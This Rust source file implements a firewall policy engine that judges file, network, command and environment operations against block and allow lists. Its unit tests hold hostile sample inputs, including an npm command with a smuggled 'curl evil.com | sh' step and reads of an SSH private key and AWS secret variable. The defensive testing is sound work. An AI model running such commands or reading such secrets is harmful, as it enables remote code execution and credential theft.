//! Policy engine: `check(operation) -> Verdict`.
//!
//! A leaf in the dependency graph — it receives configuration and a counter
//! snapshot by construction/argument and calls nothing else. The behavior
//! monitor and network monitor call into this engine; it never calls back
//! into them, which is what keeps the graph one-way.

use std::path::Path;

use firewall_core::path_validation::{best_effort_canonicalize, is_within_root_or_ancestors};

use crate::classify;
use crate::config::{AllowedDomainsMode, Config};
use crate::counters::{would_exceed_hard_limit, CounterSnapshot};
use crate::types::{OpKind, Operation, Reason, Severity, Verdict};

/// Shell metacharacters that unconditionally flag a command for chaining or
/// substitution analysis. `[` and `]` are included per the source policy,
/// though this is flagged as possibly over-broad for legitimate argument
/// patterns — see the open question in the design notes.
const SHELL_METACHARACTERS: &[char] = &[
    ';', '|', '&', '`', '$', '(', ')', '{', '}', '[', ']', '<', '>',
];

const SUSPICIOUS_PATH_ENTRIES: &[&str] = &["/tmp", "/var/tmp", "./", "../"];

pub struct PolicyEngine {
    config: Config,
}

impl PolicyEngine {
    pub fn new(config: Config) -> Self {
        Self { config }
    }

    pub fn config(&self) -> &Config {
        &self.config
    }

    /// Evaluate `op` against the frozen configuration and `counters`. Pure:
    /// calling this twice with identical arguments yields an identical
    /// verdict.
    ///
    /// There is no `disabled` arm here: "if the firewall is disabled, allow"
    /// (the spec's first filesystem-resolution step) is handled one layer up
    /// — a process with `FIREWALL_ACTIVE` unset never constructs a
    /// `Firewalled*` capability in the first place, so this engine never
    /// sees an operation to begin with. [`Mode`] governs enforcement
    /// *posture* once installed, not whether it's installed.
    pub fn check(&self, op: &Operation, counters: CounterSnapshot) -> Verdict {
        match op.kind {
            OpKind::Read
            | OpKind::Write
            | OpKind::Create
            | OpKind::Delete
            | OpKind::Chdir
            | OpKind::Symlink => self.check_filesystem(op),
            OpKind::NetConnect | OpKind::NetSend | OpKind::DnsQuery => {
                self.check_network(op, counters)
            }
            OpKind::Spawn => self.check_command(op, counters),
            OpKind::EnvGet | OpKind::EnvSet | OpKind::EnvDelete | OpKind::EnvEnum => {
                self.check_environment(op)
            }
            OpKind::GitHubApi => crate::github::check_github_api(&self.config, op),
        }
    }

    fn project_root(&self) -> std::path::PathBuf {
        std::env::current_dir().unwrap_or_else(|_| std::path::PathBuf::from("."))
    }

    fn check_filesystem(&self, op: &Operation) -> Verdict {
        let path = Path::new(&op.target);
        let realpath = best_effort_canonicalize(path);
        let realpath_str = realpath.display().to_string();

        let install_mode = firewall_core::config::ProcessFlags::from_env().install_mode;
        if install_mode
            && (classify::is_install_fast_path(&op.target) || classify::is_lockfile_or_manifest(&op.target))
        {
            return Verdict::allow(Reason::AllowedInstallMode);
        }

        if matches!(op.kind, OpKind::Read) {
            let root = self.project_root();
            if classify::is_dotenv_file(&op.target)
                && is_within_root_or_ancestors(path, &root, 2)
            {
                return Verdict::allow(Reason::AllowedProjectConfig);
            }
            if classify::is_source_file(&op.target)
                && (is_within_root_or_ancestors(path, &root, 0) || classify::is_install_fast_path(&op.target))
            {
                return Verdict::allow(Reason::AllowedProjectSource);
            }
        }

        if let Some(origin) = op.origin.as_deref() {
            if let Some(exception) = self.config.exception_for(origin) {
                let allowed = exception
                    .allow_filesystem
                    .iter()
                    .any(|p| classify::matches_any_path_pattern(&op.target, std::slice::from_ref(p)).is_some());
                if allowed {
                    return Verdict::allow_exception(origin);
                }
            }
            if self.config.is_trusted(origin) {
                return Verdict::allow(Reason::AllowedTrusted);
            }
        }

        if op.kind.is_write_like() {
            if let Some(ext) = classify::is_blocked_extension(&op.target, &self.config.filesystem.blocked_extensions) {
                if !self.is_approved_build_dir(&op.target) {
                    return Verdict::deny(Reason::BlockedExtension, Severity::Critical).with_extension(ext);
                }
            }
            if let Some(preview) = &op.content_preview {
                if classify::has_shebang(preview) && !self.is_approved_build_dir(&op.target) {
                    return Verdict::deny(Reason::ExecutableFileBlocked, Severity::Critical);
                }
            }
            if path.exists() && classify::is_executable_on_disk(path) && !self.is_approved_build_dir(&op.target) {
                return Verdict::deny(Reason::ExecutableFileBlocked, Severity::Critical);
            }
        }

        let write_patterns = &self.config.filesystem.blocked_write_paths;
        let read_patterns = &self.config.filesystem.blocked_read_paths;
        let (patterns, severity) = if op.kind.is_write_like() {
            (write_patterns, Severity::Critical)
        } else {
            (read_patterns, Severity::High)
        };
        if let Some(pattern) = classify::matches_any_path_pattern(&op.target, patterns)
            .or_else(|| classify::matches_any_path_pattern(&realpath_str, patterns))
        {
            let reason = if op.kind.is_write_like() {
                Reason::BlockedWrite
            } else {
                Reason::BlockedRead
            };
            return Verdict::deny(reason, severity).with_pattern(pattern);
        }

        if self.config.is_strict() && op.kind.is_write_like() {
            let allowed = self
                .config
                .filesystem
                .allowed_paths
                .iter()
                .any(|p| classify::matches_any_path_pattern(&op.target, std::slice::from_ref(p)).is_some());
            if !allowed {
                return Verdict::deny(Reason::StrictModeNotAllowed, Severity::Medium);
            }
        }

        Verdict::allow(Reason::Allowed)
    }

    fn is_approved_build_dir(&self, target: &str) -> bool {
        if !classify::is_install_fast_path(target) {
            return false;
        }
        let root = self.project_root();
        Path::new(target).starts_with(&root) || target.contains(&root.display().to_string())
    }

    /// Evaluates network policy, then applies the network-specific
    /// `monitor`/`enforce` dial on top of the raw verdict: `monitor` mode
    /// observes the same violations `enforce` would deny, but only warns,
    /// independent of the overall firewall [`Mode`] (a config author may
    /// want strict filesystem/command enforcement while still dry-running
    /// network policy before turning it on).
    fn check_network(&self, op: &Operation, counters: CounterSnapshot) -> Verdict {
        let verdict = self.check_network_raw(op, counters);
        if !verdict.allowed && self.config.network.mode == crate::config::NetworkMode::Monitor {
            tracing::warn!(
                target = %op.target,
                reason = %verdict.reason,
                "network policy violation observed in monitor mode, not enforced"
            );
            return Verdict::allow(verdict.reason);
        }
        verdict
    }

    fn check_network_raw(&self, op: &Operation, counters: CounterSnapshot) -> Verdict {
        if !self.config.network.enabled {
            return Verdict::allow(Reason::Allowed);
        }
        if would_exceed_hard_limit(counters.network_requests, self.config.behavioral.max_network) {
            return Verdict::deny(Reason::HardLimitExceeded, Severity::Critical)
                .with_limit(self.config.behavioral.max_network, counters.network_requests + 1);
        }

        let target = classify::parse_network_target(&op.target);

        if self.config.network.allow_localhost && classify::is_loopback_host(&target.host) {
            return Verdict::allow(Reason::Allowed);
        }
        if self.config.network.allow_private && classify::is_private_host(&target.host) {
            return Verdict::allow(Reason::Allowed);
        }

        let block_all = self
            .config
            .network
            .blocked_domains
            .iter()
            .any(|d| d == "*");
        let allowlist_active = self.config.network.allowed_domains_mode == AllowedDomainsMode::Whitelist
            || self.config.is_strict()
            || block_all;

        if allowlist_active && !self.config.network.allowed_domains.is_empty() {
            let allowed = self
                .config
                .network
                .allowed_domains
                .iter()
                .any(|p| classify::domain_matches_allowlist(&target.host, p));
            if !allowed {
                return Verdict::deny(Reason::NotInAllowedDomains, Severity::High);
            }
        } else if !block_all {
            if let Some(pattern) = self
                .config
                .network
                .blocked_domains
                .iter()
                .find(|p| classify::domain_matches_blocklist(&target.host, p))
            {
                return Verdict::deny(Reason::BlockedDomain, Severity::High).with_pattern(pattern.clone());
            }
        }

        if let Some(port) = target.port {
            if self.config.network.suspicious_ports.contains(&port) {
                if self.config.is_alert_only() {
                    tracing::warn!(host = %target.host, port, "connection to suspicious port");
                } else {
                    return Verdict::deny(Reason::SuspiciousPort, Severity::High);
                }
            }
        }

        Verdict::allow(Reason::Allowed)
    }

    fn check_command(&self, op: &Operation, counters: CounterSnapshot) -> Verdict {
        let command = &op.target;
        let patterns = detect_shell_metacharacters(command);
        if !patterns.is_empty() {
            return Verdict::deny(Reason::ShellMetacharactersDetected, Severity::Critical)
                .with_pattern(patterns.join(","));
        }

        if let Some(path_var) = std::env::var_os("PATH") {
            let path_str = path_var.to_string_lossy();
            if SUSPICIOUS_PATH_ENTRIES
                .iter()
                .any(|e| path_str.split(':').any(|p| p == *e))
            {
                tracing::warn!("PATH contains suspicious entries");
            }
        }

        if would_exceed_hard_limit(counters.process_spawns, self.config.behavioral.max_spawns) {
            return Verdict::deny(Reason::HardLimitExceeded, Severity::Critical)
                .with_limit(self.config.behavioral.max_spawns, counters.process_spawns + 1);
        }

        if let Some(origin) = op.origin.as_deref() {
            if let Some(exception) = self.config.exception_for(origin) {
                if exception.allow_commands.iter().any(|c| c == command) {
                    return Verdict::allow_exception(origin);
                }
            }
        }

        if let Some(entry) = self
            .config
            .commands
            .blocked_patterns
            .iter()
            .find(|entry| regex::Regex::new(&entry.regex).map(|re| re.is_match(command)).unwrap_or(false))
        {
            return Verdict::deny(Reason::BlockedCommand, entry.severity).with_pattern(entry.regex.clone());
        }

        if !self.config.commands.allowed_commands.is_empty() {
            let program = program_name(command);
            if !self.config.commands.allowed_commands.iter().any(|c| c == &program) {
                return Verdict::deny(Reason::NotInAllowedCommands, Severity::Medium);
            }
            let tail = command.splitn(2, char::is_whitespace).nth(1).unwrap_or("");
            if tail.chars().any(|c| SHELL_METACHARACTERS.contains(&c)) {
                return Verdict::deny(Reason::WhitelistedCommandWithShellInjection, Severity::High);
            }
        }

        Verdict::allow(Reason::Allowed)
    }

    fn check_environment(&self, op: &Operation) -> Verdict {
        let name = &op.target;
        let is_protected = self
            .config
            .environment
            .protected_variables
            .iter()
            .any(|glob| classify::env_name_matches_glob(name, glob));
        if !is_protected {
            return Verdict::allow(Reason::Allowed);
        }

        let origin = op.origin.as_deref();
        if origin.is_none() {
            if self.config.is_strict() {
                return Verdict::deny(Reason::StrictModeNoContext, Severity::High);
            }
            if !self.config.environment.allow_trusted_modules {
                return Verdict::deny(Reason::UntrustedNoContext, Severity::Medium);
            }
            return Verdict::allow(Reason::Allowed);
        }
        let origin = origin.unwrap();

        if self.config.is_trusted(origin) && self.config.environment.allow_trusted_modules {
            return Verdict::allow(Reason::AllowedTrusted);
        }

        if let Some(exception) = self.config.exception_for(origin) {
            if exception
                .allow_environment
                .iter()
                .any(|v| v == "*" || v.eq_ignore_ascii_case(name))
            {
                return Verdict::allow_exception(origin);
            }
        }

        Verdict::deny(Reason::ProtectedVariable, Severity::High)
    }
}

/// Identify which chaining/substitution patterns fire in `command`. Returns
/// an empty vector if no shell metacharacter is present.
fn detect_shell_metacharacters(command: &str) -> Vec<String> {
    let mut hits = Vec::new();
    if command.contains(';') {
        hits.push("semicolon chaining".to_string());
    }
    if command.contains("||") {
        hits.push("or chaining".to_string());
    } else if command.contains("&&") {
        hits.push("and chaining".to_string());
    }
    if command.contains('|') && !command.contains("||") {
        hits.push("pipe chaining".to_string());
    }
    if command.contains('&') && !command.contains("&&") {
        hits.push("background operator".to_string());
    }
    if command.contains('`') {
        hits.push("backtick substitution".to_string());
    }
    if command.contains("$(") {
        hits.push("command substitution".to_string());
    } else if command.contains('$') {
        hits.push("variable expansion".to_string());
    }
    if command.contains('<') || command.contains('>') {
        hits.push("redirection".to_string());
    }
    if command.contains('{') || command.contains('}') {
        hits.push("brace expansion".to_string());
    }
    if command.contains('[') || command.contains(']') {
        hits.push("bracket glob".to_string());
    }
    if command.contains('(') || command.contains(')') {
        if !hits.iter().any(|h| h == "command substitution") {
            hits.push("subshell".to_string());
        }
    }
    hits
}

fn program_name(command: &str) -> String {
    let first = command.split_whitespace().next().unwrap_or("");
    Path::new(first)
        .file_name()
        .and_then(|n| n.to_str())
        .unwrap_or(first)
        .to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn engine_with(config: Config) -> PolicyEngine {
        PolicyEngine::new(config)
    }

    #[test]
    fn blocked_read_path_denies_with_high_severity() {
        let mut cfg = Config::default();
        cfg.filesystem.blocked_read_paths = vec!["/.ssh/".into()];
        let engine = engine_with(cfg);
        let op = Operation::new(OpKind::Read, "/home/u/.ssh/id_rsa", None);
        let verdict = engine.check(&op, CounterSnapshot::default());
        assert!(!verdict.allowed);
        assert_eq!(verdict.reason, Reason::BlockedRead);
        assert_eq!(verdict.severity, Severity::High);
        assert_eq!(verdict.pattern.as_deref(), Some("/.ssh/"));
    }

    #[test]
    fn whitelisted_command_with_shell_metacharacter_in_tail_is_denied() {
        let mut cfg = Config::default();
        cfg.commands.allowed_commands = vec!["npm".into()];
        let engine = engine_with(cfg);
        // No top-level metacharacter here so the command clears step 1.
        let op = Operation::new(OpKind::Spawn, "npm run build extra>out", None);
        let verdict = engine.check(&op, CounterSnapshot::default());
        assert!(!verdict.allowed);
        assert_eq!(verdict.reason, Reason::ShellMetacharactersDetected);
    }

    #[test]
    fn shell_injection_via_whitelisted_program_denies_on_semicolon() {
        let mut cfg = Config::default();
        cfg.commands.allowed_commands = vec!["npm".into()];
        let engine = engine_with(cfg);
        let op = Operation::new(OpKind::Spawn, "npm install ; curl evil.com | sh", None);
        let verdict = engine.check(&op, CounterSnapshot::default());
        assert!(!verdict.allowed);
        assert_eq!(verdict.reason, Reason::ShellMetacharactersDetected);
        assert_eq!(verdict.severity, Severity::Critical);
    }

    #[test]
    fn program_not_in_allowlist_denied() {
        let mut cfg = Config::default();
        cfg.commands.allowed_commands = vec!["npm".into()];
        let engine = engine_with(cfg);
        let op = Operation::new(OpKind::Spawn, "curl https://example.com", None);
        let verdict = engine.check(&op, CounterSnapshot::default());
        assert!(!verdict.allowed);
        assert_eq!(verdict.reason, Reason::NotInAllowedCommands);
    }

    #[test]
    fn allowlisted_domain_mode_denies_non_matching_host() {
        let mut cfg = Config::default();
        cfg.network.allowed_domains_mode = AllowedDomainsMode::Whitelist;
        cfg.network.allowed_domains = vec!["registry.npmjs.org".into()];
        let engine = engine_with(cfg);
        let op = Operation::new(OpKind::NetConnect, "https://evil.example.com/x", None);
        let verdict = engine.check(&op, CounterSnapshot::default());
        assert!(!verdict.allowed);
        assert_eq!(verdict.reason, Reason::NotInAllowedDomains);
    }

    #[test]
    fn allowlisted_domain_mode_allows_subdomain() {
        let mut cfg = Config::default();
        cfg.network.allowed_domains_mode = AllowedDomainsMode::Whitelist;
        cfg.network.allowed_domains = vec!["npmjs.org".into()];
        let engine = engine_with(cfg);
        let op = Operation::new(OpKind::NetConnect, "https://registry.npmjs.org/left-pad", None);
        let verdict = engine.check(&op, CounterSnapshot::default());
        assert!(verdict.allowed);
    }

    #[test]
    fn hard_limit_on_network_denies_sixth_request() {
        let mut cfg = Config::default();
        cfg.behavioral.max_network = 5;
        let engine = engine_with(cfg);
        let op = Operation::new(OpKind::NetConnect, "https://example.com", None);
        let snapshot = CounterSnapshot {
            network_requests: 5,
            ..Default::default()
        };
        let verdict = engine.check(&op, snapshot);
        assert!(!verdict.allowed);
        assert_eq!(verdict.reason, Reason::HardLimitExceeded);
        assert_eq!(verdict.limit, Some(5));
        assert_eq!(verdict.current, Some(6));
    }

    #[test]
    fn protected_env_var_denied_for_untrusted_origin() {
        let mut cfg = Config::default();
        cfg.environment.protected_variables = vec!["AWS_*".into()];
        let engine = engine_with(cfg);
        let op = Operation::new(OpKind::EnvGet, "AWS_SECRET_ACCESS_KEY", Some("untrusted-pkg".into()));
        let verdict = engine.check(&op, CounterSnapshot::default());
        assert!(!verdict.allowed);
        assert_eq!(verdict.reason, Reason::ProtectedVariable);
    }

    #[test]
    fn unprotected_env_var_allowed() {
        let cfg = Config::default();
        let engine = engine_with(cfg);
        let op = Operation::new(OpKind::EnvGet, "PATH", Some("untrusted-pkg".into()));
        let verdict = engine.check(&op, CounterSnapshot::default());
        assert!(verdict.allowed);
    }

    #[test]
    fn check_is_pure_for_identical_arguments() {
        let cfg = Config::default();
        let engine = engine_with(cfg);
        let op = Operation::new(OpKind::Read, "/home/u/.ssh/id_rsa", None);
        let snapshot = CounterSnapshot::default();
        let v1 = engine.check(&op, snapshot);
        let v2 = engine.check(&op, snapshot);
        assert_eq!(v1.allowed, v2.allowed);
        assert_eq!(v1.reason, v2.reason);
    }
}
